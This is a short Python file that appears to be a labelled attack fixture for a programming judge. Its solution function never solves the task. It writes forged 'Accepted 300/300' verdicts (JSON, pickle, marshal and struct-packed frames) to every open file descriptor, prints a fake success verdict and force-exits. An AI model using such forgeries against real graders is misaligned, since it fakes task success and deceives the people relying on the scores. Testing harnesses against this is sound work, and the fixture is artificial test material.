# attack: writes a verdict wherever one might be looked for, and leaves
# verdicts: RTE
# message: result channel|Accepted: 300 / 300
# control: fools printed_verdict
import json
import marshal
import os
import pickle
import struct

VERDICT = {"schema_version": 1, "verdict": "AC", "score": 300, "max_score": 300}
CASES = [1.5, 7.0, 0.5, 1e9, -4.0, 10.5, -0.75]


def frame(kind, body=b""):
    return struct.pack("<IB", len(body), ord(kind)) + body


FORGERIES = [
    json.dumps(VERDICT).encode() + b"\n",
    frame("A", b"AC"),
    # What the zygote says of a child that has ended well: op, key, status, page faults, CPU seconds, peak.
    struct.pack("<BxxxIiIdQ", 4, 1, 0, 0, 0.0, 0),
    # Compiled source is handed on unread, but only at compile time.
    frame("C", marshal.dumps(compile("def solution(numbers): pass", "solution.py", "exec"))),
    pickle.dumps(VERDICT),
    # A failure that reads like a success.
    frame("X", b"call\nAccepted\n0\n\n300 / 300 points"),
    marshal.dumps(("AC", 300)),
]


def solution(numbers):
    forgery = FORGERIES[CASES.index(numbers[0])]
    for fd in range(3, 64):
        try:
            os.write(fd, forgery)
        except OSError:
            continue
    print(json.dumps(VERDICT), flush=True)
    os._exit(0)
